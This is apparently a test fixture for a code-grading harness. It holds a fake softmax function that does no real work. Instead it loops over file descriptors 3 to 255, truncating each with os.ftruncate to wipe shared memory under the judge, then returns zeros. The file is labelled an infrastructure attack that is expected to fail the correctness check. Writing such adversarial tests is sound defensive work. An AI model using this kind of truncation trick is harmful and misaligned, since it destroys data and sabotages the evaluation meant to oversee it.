"""Tries to cut the shared memory under the judge.

Row: none (infrastructure attack).
Expected: wrong_numeric at correctness.
"""
import os

import torch


def softmax(input, dim, dtype=None):
    for fd in range(3, 256):
        try:
            os.ftruncate(fd, 0)
        except OSError:
            pass
    return torch.zeros_like(input, dtype=dtype)
